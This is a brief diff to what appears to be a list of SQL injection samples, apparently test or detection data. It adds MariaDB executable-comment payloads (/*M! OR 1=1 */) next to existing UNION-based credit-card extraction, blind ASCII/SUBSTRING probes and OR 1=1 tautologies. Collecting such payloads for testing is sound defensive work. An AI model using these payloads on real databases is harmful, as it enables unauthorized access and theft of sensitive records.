@@ -371,3 +371,7 @@ SELECT field1, field2, field3 FROM Users WHERE Id='1' UNION ALL SELECT creditCar
 SELECT field1, field2, field3 FROM Users WHERE Id='1' AND ASCII(SUBSTRING(username,1,1))=97 AND '1'='1'
 SELECT * FROM Users WHERE Id=1 OR 1=1 LIMIT 1
 SELECT * FROM Users WHERE Id=10 AND LENGTH(username)=4 AND '1' = '1'
+
+-- family: MariaDB executable comments /*M! … */ (MariaDB runs their body; PayloadsAllTheThings' comment tricks)
+SELECT * FROM users WHERE name = 'x' /*M! OR 1=1 */ -- '
+SELECT * FROM users WHERE id = 5 /*M! OR 1=1 */
